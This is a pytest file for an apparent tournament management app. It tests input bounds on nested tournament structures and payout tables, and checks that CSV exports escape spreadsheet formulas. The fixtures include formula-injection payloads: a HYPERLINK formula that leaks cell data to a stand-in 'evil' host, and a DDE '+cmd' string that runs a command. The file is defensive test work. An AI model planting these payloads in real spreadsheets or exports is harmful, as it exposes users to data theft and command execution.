"""Data nested in a body (a tournament's structure, its payout table) meets the same bounded schemas
as a top-level field; every CSV export writes a cell a spreadsheet would run as a formula as text."""
from __future__ import annotations

import csv
import io

import pytest

from floor import spreadsheet
from floor.models import Player, Tournament
from tests.conftest import Login, app_session
from tests.floor.tournaments.helpers import players, tables

LEVEL = {"small_blind": 100, "big_blind": 200, "minutes": 20}
STRUCTURE = {"name": "House special", "starting_stack": 20_000, "late_registration_levels": 2,
             "steps": [{"level": LEVEL}, {"break": {"minutes": 10, "note": "colour-up"}}, {"level": LEVEL | {"big_blind": 400}}]}
BASE = {"name": "Nested", "game_id": 1, "buy_in": 10_000, "fee": 1_000, "seats_per_table": 10,
        "final_table_size": 9, "table_numbers": [41, 42]}


@pytest.fixture
def floor_ready(app):
    with app_session(app) as s:
        tables(s, (41, 42))
        return players(s, 4)


def _tournaments(app) -> int:
    with app_session(app) as s:
        return s.query(Tournament).count()


def test_a_structure_given_as_data_is_taken_and_the_clock_runs(app, login, floor_ready):
    login("manager")
    r = login.post("/api/tournaments", json=BASE | {"structure": STRUCTURE})
    assert r.status_code == 201, r.get_json()
    t = r.get_json()
    cashier = Login(app.test_client())
    cashier("cashier")
    for p in floor_ready[:2]:
        assert cashier.post(f"/api/tournaments/{t['id']}/entries", json={"player_id": p}).status_code == 201
    started = login.post(f"/api/tournaments/{t['id']}/start")
    assert started.status_code == 200 and started.get_json()["clock"]["big_blind"] == 200


@pytest.mark.parametrize("where, change", [
    ("minutes", lambda s: s["steps"][0]["level"].update(minutes=2**63)),
    ("minutes", lambda s: s["steps"][1]["break"].update(minutes=10**12)),
    ("big_blind", lambda s: s["steps"][0]["level"].update(big_blind=2**63)),
    ("small_blind", lambda s: s["steps"][0]["level"].update(small_blind=-5)),
    ("starting_stack", lambda s: s.update(starting_stack=1e308)),
    ("name", lambda s: s.update(name="a\x00b")),
    ("name", lambda s: s.update(name="x" * 50_000)),
    ("note", lambda s: s["steps"][1]["break"].update(note="n" * 50_000)),
    ("note", lambda s: s["steps"][1]["break"].update(note="\u202egnihton")),
    ("late_registration_levels", lambda s: s.update(late_registration_levels=2**40)),
    ("steps", lambda s: s.update(steps=[{"level": LEVEL, "break": {"minutes": 5}}])),
    ("steps", lambda s: s.update(steps=[])),
    ("color", lambda s: s.update(color="red")),
])
def test_a_structure_given_as_data_is_bounded_like_any_field(app, login, floor_ready, where, change):
    login("manager")
    structure = {**STRUCTURE, "steps": [{k: dict(v) for k, v in step.items()} for step in STRUCTURE["steps"]]}
    change(structure)
    r = login.post("/api/tournaments", json=BASE | {"structure": structure})
    assert r.status_code == 400, r.get_json()
    body = r.get_json()
    assert body["error"] == "bad_input" and body["field"].startswith("structure") and where in str(body), body
    assert _tournaments(app) == 0


@pytest.mark.parametrize("row", [
    {"min_entries": 2, "percents": ["1e999999"]},
    {"min_entries": 2, "percents": ["100"] * 5000},
    {"min_entries": 2**63, "percents": ["100"]},
    {"min_entries": 2, "max_entries": 2**63, "percents": ["100"]},
    {"min_entries": 2, "percents": ["\x00"]},
])
def test_a_payout_table_given_as_data_is_bounded_too(app, login, floor_ready, row):
    login("manager")
    r = login.post("/api/tournaments", json=BASE | {"payout_table": [row]})
    assert r.status_code in (400, 413), r.get_json()
    assert _tournaments(app) == 0


def test_a_template_nests_the_same_checks(app, login, floor_ready):
    login("manager")
    bad = {**STRUCTURE, "steps": [{"level": LEVEL | {"minutes": 2**63}}]}
    r = login.post("/api/tournaments/templates", json={"template_name": "Bad", "tournament": BASE | {"structure": bad}})
    assert r.status_code == 400 and r.get_json()["field"].startswith("tournament.structure")


@pytest.mark.parametrize("value, written", [
    ("=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("-12.50", "-12.50"), (-1250, -1250), ("Ann", "Ann"), (None, None),
])
def test_the_one_csv_writer_escapes_formulas_and_leaves_numbers(value, written):
    assert spreadsheet.cell(value) == written


def test_results_csv_and_the_shift_report_write_names_as_text(app, client, login, floor_ready):
    with app_session(app) as s:
        s.get(Player, floor_ready[0]).name = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")"
        s.get(Player, floor_ready[1]).name = "@SUM(A1:A9)"
    login("manager")
    r = login.post("/api/tournaments", json=BASE | {"name": "+cmd|' /C calc'!A0", "structure": "daily_turbo"})
    assert r.status_code == 201, r.get_json()
    t = r.get_json()
    cashier = Login(app.test_client())
    cashier("cashier")
    for p in floor_ready[:2]:
        assert cashier.post(f"/api/tournaments/{t['id']}/entries", json={"player_id": p, "paid_with": "cash"}).status_code == 201
    rows = list(csv.reader(io.StringIO(client.get(f"/api/tournaments/{t['id']}/results.csv").get_data(as_text=True))))
    names = {row[1] for row in rows[1:]}
    assert names == {"'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'@SUM(A1:A9)"}
    boss = Login(app.test_client())
    boss("pitboss")
    shift = list(csv.reader(io.StringIO(boss.client.get("/pit/shift.csv").get_data(as_text=True))))
    cells = [c for row in shift for c in row]
    assert "'+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
